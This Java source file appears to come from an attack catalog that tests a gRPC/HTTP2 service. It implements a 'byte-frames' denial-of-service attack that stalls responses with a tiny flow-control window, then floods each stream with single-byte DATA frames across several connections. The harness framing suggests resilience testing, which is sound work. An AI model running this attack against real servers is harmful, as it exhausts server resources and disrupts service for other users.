package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import java.io.IOException;

/**
 * Sends single bytes, each in a frame of its own, on streams that the server does not read, because
 * the client does not let it send the answers to the batches before.
 */
final class ByteFrames extends Attack {
  private static final int CONNECTIONS = 4;

  /**
   * Streams of one connection; together, their windows are what one connection may leave unread.
   */
  private static final int STREAMS = 4;

  private static final int STREAM_WINDOW = 250_000;

  /** Empty ones, whose answers are more than gRPC buffers. */
  private static final int BATCHES = 2_000;

  private static final int AT_ONCE = 500;
  private static final int INITIAL_WINDOW_SIZE = 4;

  ByteFrames() {
    super("byte-frames", Family.FRAMES, Access.TENANT_KEY, Bounds.of(100, 128, 24));
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(CONNECTIONS, () -> fill(attempt));
  }

  private static void fill(Attempt attempt) throws IOException, InterruptedException {
    try (Http2 connection = attempt.grpc()) {
      connection.send(Frame.setting(INITIAL_WINDOW_SIZE, 0));
      // Only then has the server made the windows of streams larger.
      connection.send(Frame.empty(Frame.SETTINGS, Frame.ACK, 0));
      byte[] batches = new byte[5 * BATCHES];
      int window = Http2.WINDOW_BYTES;
      for (int i = 0; i < STREAMS; i++) {
        int stream = connection.newStream();
        connection.headers(stream, false, Grpc.headers(Grpc.ENQUEUE_STREAM, attempt.key()));
        window = awaitWindow(connection, window, batches.length);
        connection.data(stream, false, batches);
      }
      attempt.pause(200);
      for (int i = 0; i < STREAMS; i++) {
        // The streams of a client have odd numbers, from 1 on.
        byte[] frames = new Frame(Frame.DATA, 0, 2 * i + 1, new byte[1]).times(AT_ONCE);
        for (int at = batches.length; at + AT_ONCE < STREAM_WINDOW; at += AT_ONCE) {
          window = awaitWindow(connection, window, AT_ONCE);
          connection.send(frames);
        }
      }
      while (attempt.isRunning()) {
        connection.read();
      }
    }
  }

  /** Returns what is left of the window of the connection after {@code bytes} more. */
  private static int awaitWindow(Http2 connection, int window, int bytes) throws IOException {
    int left = window;
    while (left < bytes || connection.hasInput()) {
      Frame frame = connection.read();
      if (frame.type() == Frame.WINDOW_UPDATE && frame.stream() == 0) {
        left += frame.number();
      }
    }
    return left - bytes;
  }
}
